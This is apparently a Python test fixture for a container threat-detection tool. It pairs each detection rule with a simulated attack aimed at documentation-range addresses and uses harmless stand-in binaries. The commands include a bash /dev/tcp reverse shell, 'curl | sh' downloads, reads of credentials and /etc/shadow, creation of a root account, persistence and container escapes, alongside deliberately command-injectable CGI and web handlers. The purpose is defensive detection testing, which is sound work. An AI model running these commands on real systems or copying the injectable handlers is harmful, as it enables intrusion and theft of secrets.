"""An attack for every threat rule, as shell scripts that run in a container made for being attacked.

Every address leads back into the container's own network namespace, so that nothing leaves this machine. Where a tool
of attackers is needed that machines do not have, a harmless program takes its name: what is seen is the name.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field
from enum import StrEnum

PYTHON = "/srv/python"
"""The interpreter of the image: a symbolic link to this machine's."""

THEM = "203.0.113.9"
"""Somebody on the Internet (TEST-NET-3, RFC 5737)."""


TOOLS = {"busybox": "busybox-static", "clang": "clang", "curl": "curl", "ssh": "openssh-client", "wget": "wget"}
"""What is taken from this machine, and the Debian package that has it, besides what every Debian has."""


class Place(StrEnum):
    """The containers."""

    SERVICE = "service"
    """Serves requests, and has holes: a CGI script that runs what it is asked for, and a web application that does."""
    INTRUDED = "intruded"
    """An ordinary one in which somebody has a shell."""
    PRIVILEGED = "privileged"
    """One that may do nearly everything."""


@dataclass(frozen=True, slots=True)
class Attack:
    """What is done, and what the detection must say of it."""

    rule: str
    script: str
    program: str
    """The path of the accused process, or how it ends."""
    facts: Mapping[str, str] = field(default_factory=dict)
    """Some of the detection's."""
    place: Place = Place.INTRUDED


def _web(command: str) -> str:
    """A request to the CGI script that runs `command`."""
    return f"curl -s -G --data-urlencode '{command}' http://127.0.0.1:80/cgi-bin/status.cgi"


def _application(command: str) -> str:
    """A request to the web application that runs `command`."""
    return f"curl -s -G --data-urlencode '{command}' http://127.0.0.1:8000/"


_PTRACE = f"""{PYTHON} -ISc 'import ctypes, os, time
child = os.fork()
if not child: time.sleep(30)
ctypes.CDLL(None).ptrace(16, child, None, None)
os.waitpid(child, 0)
os.kill(child, 9)'
"""

_WRITE_MEMORY = f"""{PYTHON} -ISc 'import ctypes, os, struct, time
word = ctypes.create_string_buffer(8)
child = os.fork()
if not child: time.sleep(30)
vector = struct.pack("QQ", ctypes.addressof(word), 8)
ctypes.CDLL(None).process_vm_writev(child, vector, 1, vector, 1, 0)
os.kill(child, 9)'
"""

_MEMORY = f"""{PYTHON} -ISc 'import os
program = os.memfd_create("kworker", 0)
os.write(program, open("/bin/true", "rb").read())
os.execv("/proc/self/fd/%d" % program, ["kworker"])'
"""

ATTACKS = (
    # --- a service is broken into ---
    Attack("web-shell", _web("true"), "/dash", {"parent.programs": "busybox, httpd"}, Place.SERVICE),
    Attack("discovery-by-service", _web("id"), "/usr/bin/id", place=Place.SERVICE),
    Attack("transfer-by-service", _web(f"wget -qO /tmp/x http://{THEM}/payload"), "/usr/bin/wget", place=Place.SERVICE),
    Attack("service-runs-shell", _application("true"), "/dash", place=Place.SERVICE),
    Attack(
        "service-shell",
        _application("id; cat /etc/passwd"),
        "/dash",
        {"process.command": "/bin/sh -c id; cat /etc/passwd"},
        Place.SERVICE,
    ),
    Attack(
        "reverse-shell",
        f"bash -c 'bash -i >& /dev/tcp/{THEM}/4444 0>&1'",
        "/bash",
        {"process.command": f"bash -c bash -i >& /dev/tcp/{THEM}/4444 0>&1"},
        Place.SERVICE,
    ),
    Attack(
        "shell-connects",
        "bash -c 'echo > /dev/tcp/198.51.100.7/443'",
        "/bash",
        {"network.address": "198.51.100.7", "network.port": "443"},
        Place.SERVICE,
    ),
    Attack(
        "suspicious-port",
        "busybox nc 198.51.100.7 6667",
        "/busybox",
        {"network.address": "198.51.100.7", "network.port": "6667"},
        Place.SERVICE,
    ),
    Attack("miner-pool", f"busybox nc {THEM} 3333", "/busybox", {"network.port": "3333"}, Place.SERVICE),
    Attack(
        "metadata-by-tool",
        "curl -s http://169.254.169.254/latest/meta-data/iam/",
        "/curl",
        {"network.address": "169.254.169.254"},
        Place.SERVICE,
    ),
    Attack(
        "metadata-service",
        f"{PYTHON} -I /srv/ask.py 169.254.169.254",
        PYTHON,
        {"network.address": "169.254.169.254", "network.port": "80"},
        Place.SERVICE,
    ),
    Attack(
        "unexpected-listener",
        "timeout 0.3 busybox nc -l -p 9000",
        "/busybox",
        {"network.port": "9000"},
        Place.SERVICE,
    ),
    Attack("tunnel", f"ssh -o ConnectTimeout=1 -fNR 2222:localhost:22 x@{THEM}", "/ssh", place=Place.SERVICE),
    Attack("download-to-shell", f"bash -c 'curl -s http://{THEM}/payload | sh'", "/bash", place=Place.SERVICE),
    Attack("network-scanner", f"busybox nc -zv -w 1 {THEM} 1-1024", "/busybox", place=Place.SERVICE),
    Attack(
        "runtime-socket",
        "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json",
        "/curl",
        place=Place.SERVICE,
    ),
    # --- what is dropped and run ---
    Attack(
        "drift-execution",
        "cp /bin/true /tmp/dropped && /tmp/dropped",
        "/tmp/dropped",
        {"file.upper": "true"},
    ),
    Attack("tmpfs-execution", "cp /bin/true /cache/a && /cache/a", "/cache/a", {"file.tmpfs": "true"}),
    Attack(
        "deleted-execution",
        "cp /bin/true /tmp/gone; exec 9</tmp/gone; rm /tmp/gone; /proc/self/fd/9",
        "gone",
        {"file.unlinked": "true"},
    ),
    Attack("memory-execution", _MEMORY, "memfd:kworker", {"file.memfd": "true"}),
    Attack("loader-execution", "/lib64/ld-linux-x86-64.so.2 /bin/true", "ld-linux-x86-64.so.2"),
    Attack(
        "library-drift",
        "cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/hook.so; LD_PRELOAD=/tmp/hook.so /bin/true",
        "/true",
        {"file.path": "/tmp/hook.so"},
    ),
    Attack("executable-made", "cp /bin/true /tmp/x; chmod +x /tmp/x", "/chmod", {"file.path": "/tmp/x"}),
    Attack("encoded-command", "bash -c 'echo dHJ1ZQ== | base64 -d | sh'", "/bash"),
    Attack("compiler", "clang -fsyntax-only -x c /dev/null", "/clang"),
    Attack("package-manager", "dpkg -i /tmp/tools.deb", "/dpkg"),
    Attack("container-client", "cp /bin/true /tmp/kubectl; /tmp/kubectl get secrets -A", "/tmp/kubectl"),
    Attack("crypto-miner", f"cp /bin/true /tmp/.a; /tmp/.a -o stratum+tcp://{THEM}:3333 -u wallet", "/tmp/.a"),
    Attack(
        "attack-tool",
        "echo true > /tmp/linpeas.sh; sh /tmp/linpeas.sh -a",
        "/dash",
        {"process.arguments": "sh, /tmp/linpeas.sh, -a"},
    ),
    # --- what is read ---
    Attack("password-file-read", "cat /etc/shadow", "/cat", {"file.path": "/etc/shadow"}),
    Attack("cloud-credentials-read", "grep -r aws_secret /home", "/grep", {"file.path": "/home/app/.aws/credentials"}),
    Attack("private-key-read", "base64 /home/app/.ssh/id_ed25519", "/base64"),
    Attack(
        "service-account-token-read",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "/cat",
    ),
    # --- what is written ---
    Attack(
        "account-file-written",
        "echo 'eve::0:0::/:/bin/sh' >> /etc/passwd",
        "/dash",
        {"file.path": "/etc/passwd"},
    ),
    Attack("account-changed", "useradd -o -u 0 mallory", "/useradd"),
    Attack("authorized-keys-written", "echo key >> /home/app/.ssh/authorized_keys", "/dash"),
    Attack("binary-written", "cp /bin/true /usr/local/bin/sshd", "/cp", {"file.path": "/usr/local/bin/sshd"}),
    Attack("etc-written", f"echo nameserver {THEM} > /etc/resolv.conf.new", "/dash"),
    Attack("persistence-written", "echo '* * * * * root /tmp/x' > /etc/cron.d/updates", "/dash"),
    Attack("preload-written", "echo > /etc/ld.so.preload; rm /etc/ld.so.preload", "/dash"),
    Attack("traces-removed", "rm -f /root/.bash_history", "/rm"),
    Attack("destruction", "echo > /tmp/ledger; shred -u /tmp/ledger", "/shred"),
    # --- other rights, other processes ---
    Attack(
        "setuid-made",
        "cp /usr/bin/id /tmp/suid; chmod 4755 /tmp/suid",
        "/chmod",
        {"file.path": "/tmp/suid", "file.setuid": "true"},
    ),
    Attack(
        "privilege-escalation",
        "cp /usr/bin/id /tmp/root; chmod 4755 /tmp/root; setpriv --reuid=1234 --clear-groups /tmp/root",
        "/tmp/root",
        {"user.before": "1234", "user.after": "0"},
    ),
    Attack(
        "root-by-setuid",
        "setpriv --reuid=1234 --clear-groups su --version",
        "/usr/bin/su",
        {"user.before": "1234", "user.after": "0"},
    ),
    Attack("ptrace", _PTRACE, PYTHON, {"trace.request": "16"}),
    # --- a way out is looked for ---
    Attack("kernel-module", "busybox insmod /tmp/rootkit.ko", "/busybox", place=Place.PRIVILEGED),
    Attack(
        "kernel-helper-written",
        ": >> /proc/sys/kernel/core_pattern",
        "/dash",
        {"file.path": "/proc/sys/kernel/core_pattern"},
        Place.PRIVILEGED,
    ),
    Attack(
        "process-memory-read",
        "head -c 1 /proc/1/mem",
        "/head",
        {"file.path": "/proc/1/mem"},
        Place.PRIVILEGED,
    ),
    Attack(
        "raw-device",
        "mknod /dev/loop0 b 7 0; head -c 1 /dev/loop0",
        "/head",
        {"file.path": "/dev/loop0"},
        Place.PRIVILEGED,
    ),
    Attack(
        "mount-escape",
        "mkdir -p /tmp/groups; mount -t cgroup2 none /tmp/groups",
        "/mount",
        {"mount.type": "cgroup2"},
        Place.PRIVILEGED,
    ),
    Attack(
        "mount",
        "mkdir -p /tmp/over; mount -t tmpfs none /tmp/over",
        "/mount",
        {"mount.type": "tmpfs"},
        Place.PRIVILEGED,
    ),
    Attack(
        "namespace-entered",
        "unshare --mount true",
        "/unshare",
        {"namespace.types": "mount"},
        Place.PRIVILEGED,
    ),
    Attack("nsenter", "nsenter --target 1 --mount true", "/nsenter", place=Place.PRIVILEGED),
    # A second way of some of them.
    Attack("ptrace", _WRITE_MEMORY, PYTHON, {"trace.request": "65536"}, Place.PRIVILEGED),
)
"""One at least for each rule but `BY_RUNTIME`."""

BY_RUNTIME = {"terminal-shell": "the container runtime starts the shell, as kubectl exec has it do"}
"""Rules that nothing in the container itself can fulfil."""

FILES: Mapping[str, str] = {
    "srv/payload": "true\n",
    "srv/cgi-bin/status.cgi": '#!/bin/sh\necho; eval "$(busybox httpd -d "$QUERY_STRING")"\n',
    "srv/application.py": """
import http.server, subprocess, urllib.parse
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        command = urllib.parse.unquote_plus(urllib.parse.urlsplit(self.path).query)
        subprocess.run(command, shell=True)
        self.send_response(204)
        self.end_headers()
http.server.HTTPServer(("127.0.0.1", 8000), Handler).serve_forever()
""",
    "srv/ask.py": """
import socket, sys
socket.socket().connect_ex((sys.argv[1], 80))
""",
    "home/app/.aws/credentials": "aws_secret_access_key = none\n",
    "home/app/.ssh/id_ed25519": "no key\n",
    "run/secrets/kubernetes.io/serviceaccount/token": "no token\n",
    "root/.bash_history": "ls\n",
    "srv/attack": """#!/bin/sh
busybox httpd -f -p 80 -h /srv &
if [ "$1" = service ]; then
    /srv/python -I /srv/application.py 2>/dev/null &
    until curl -s http://127.0.0.1:8000/; do sleep 0.1; done
fi
for attack in /srv/attacks/"$1"/*; do
    timeout 10 sh "$attack" </dev/null >"/tmp/out-${attack##*/}" 2>&1
done
: >/tmp/done
exec sleep 60
""",
}
"""What the image has besides this machine's own programs; those with a first line `#!` are executable."""
